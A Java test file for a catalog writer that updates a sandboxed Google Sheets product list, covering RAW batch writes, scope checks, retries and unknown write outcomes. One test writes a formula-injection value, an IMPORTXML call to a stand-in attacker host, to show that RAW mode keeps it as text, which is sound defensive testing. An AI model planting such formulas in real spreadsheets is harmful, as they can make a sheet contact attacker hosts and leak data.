package dev.changeset.catalog;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.math.BigDecimal;
import java.util.List;
import java.util.Optional;

import jakarta.inject.Inject;

import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import dev.changeset.identity.AccessToken;
import dev.changeset.support.SandboxClient;
import dev.changeset.support.SandboxResource;
import dev.changeset.vault.Delegation;
import dev.changeset.vault.TokenVault;
import dev.changeset.vault.TokenVaultException;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;

/** The Writer's narrow client against the sandbox: read the targets, one RAW batch write, and its failure modes. */
@QuarkusTest
@WithTestResource(SandboxResource.class)
class CatalogWriterTest {

    static final String ID = "1SbxCommerceChangesetDemoCatalog2026";

    @ConfigProperty(name = "sandbox.url")
    String sandboxUrl;
    @Inject
    CatalogWriter writer;
    @Inject
    CatalogReader reader;
    @Inject
    TokenVault vault;

    SandboxClient sandbox;
    long since;

    @BeforeEach
    void setUp() {
        sandbox = new SandboxClient(sandboxUrl);
        sandbox.reset();
        List.of("alice", "carol").forEach(u -> vault.invalidate("auth0|" + u));
        since = sandbox.callMark();
    }

    Delegation as(String user) {
        return new Delegation("auth0|" + user, new AccessToken(sandbox.token(user, "changeset:write")),
                Optional.empty());
    }

    JsonArray calls() {
        return sandbox.callsSince(since);
    }

    JsonArray row(int number) {
        return sandbox.get("/sandbox/google/spreadsheets/" + ID + "/snapshot?sheet=Products").getJsonArray("rows")
                .getJsonArray(number - 1);
    }

    @Test
    void reads_the_targets_then_writes_them_in_one_raw_batch() {
        List<CellRange> before = writer.read(as("alice"), List.of("Products!D2", "Products!A2"));
        assertEquals("Products!D2", before.get(0).range());
        assertEquals(new BigDecimal("66.99"), before.get(0).values().get(0).get(0));

        CatalogWriter.Written written = writer.writeRaw(as("alice"), List.of(
                new CellRange("Products!D2", List.of(List.of(new BigDecimal("70.50")))),
                new CellRange("Products!B2", List.of(List.of("=IMPORTXML(\"https://evil.example\",\"//a\")")))));
        assertEquals(2, written.updatedCells());
        assertEquals(List.of("Products!D2", "Products!B2"), written.updatedRanges());
        assertTrue(written.tokenExchangeId().startsWith("tvx-"));

        assertEquals(new JsonObject().put("number", "70.5"), row(2).getJsonObject(3));
        assertEquals(new JsonObject().put("string", "=IMPORTXML(\"https://evil.example\",\"//a\")"),
                row(2).getJsonObject(1), "RAW: the formula stays text");
        JsonArray calls = calls();
        assertEquals(List.of("values.batchGet", "values.batchUpdate"),
                calls.stream().map(c -> ((JsonObject) c).getString("method")).toList());
        assertEquals("RAW", calls.getJsonObject(1).getString("valueInputOption"));
        assertEquals(new JsonArray().add("Products!D2").add("Products!B2"), calls.getJsonObject(1).getJsonArray("ranges"));

        List<CellRange> readBack = reader.cells(as("alice"), List.of("Products!D2"));
        assertEquals(new BigDecimal("70.5"), readBack.get(0).values().get(0).get(0));
    }

    @Test
    void a_read_only_grant_never_reaches_google_to_write() {
        TokenVaultException e = assertThrows(TokenVaultException.class, () -> writer.writeRaw(as("carol"),
                List.of(new CellRange("Products!D2", List.of(List.of(1))))));
        assertEquals(TokenVaultException.Kind.GRANT_SCOPE, e.kind());
        assertEquals(0, calls().size());
    }

    @Test
    void a_429_on_write_is_retried_because_nothing_was_written() {
        sandbox.post("/sandbox/google/faults", new JsonObject().put("kind", "error").put("status", 429)
                .put("count", 2).put("on", "write"));
        writer.writeRaw(as("alice"), List.of(new CellRange("Products!D2", List.of(List.of(71)))));
        assertEquals(List.of(429, 429, 200), calls().stream().map(c -> ((JsonObject) c).getInteger("status")).toList());
    }

    @Test
    void a_5xx_on_write_is_never_retried_and_says_to_read_back() {
        sandbox.post("/sandbox/google/faults", new JsonObject().put("kind", "error").put("status", 503)
                .put("on", "write"));
        CatalogException e = assertThrows(CatalogException.class, () -> writer.writeRaw(as("alice"),
                List.of(new CellRange("Products!D2", List.of(List.of(72))))));
        assertEquals(CatalogException.Kind.WRITE_OUTCOME_UNKNOWN, e.kind());
        assertTrue(e.getMessage().contains("Read the cells back"), e.getMessage());
        assertEquals(1, calls().size());
    }

    @Test
    void a_lost_answer_is_an_unknown_outcome_although_the_write_happened() {
        sandbox.post("/sandbox/google/faults", new JsonObject().put("kind", "lose-write-answer"));
        CatalogException e = assertThrows(CatalogException.class, () -> writer.writeRaw(as("alice"),
                List.of(new CellRange("Products!D2", List.of(List.of(73))))));
        assertEquals(CatalogException.Kind.WRITE_OUTCOME_UNKNOWN, e.kind());
        assertEquals(1, calls().size());
        assertEquals(new JsonObject().put("number", "73"), row(2).getJsonObject(3), "applied: reading back tells");
    }
}
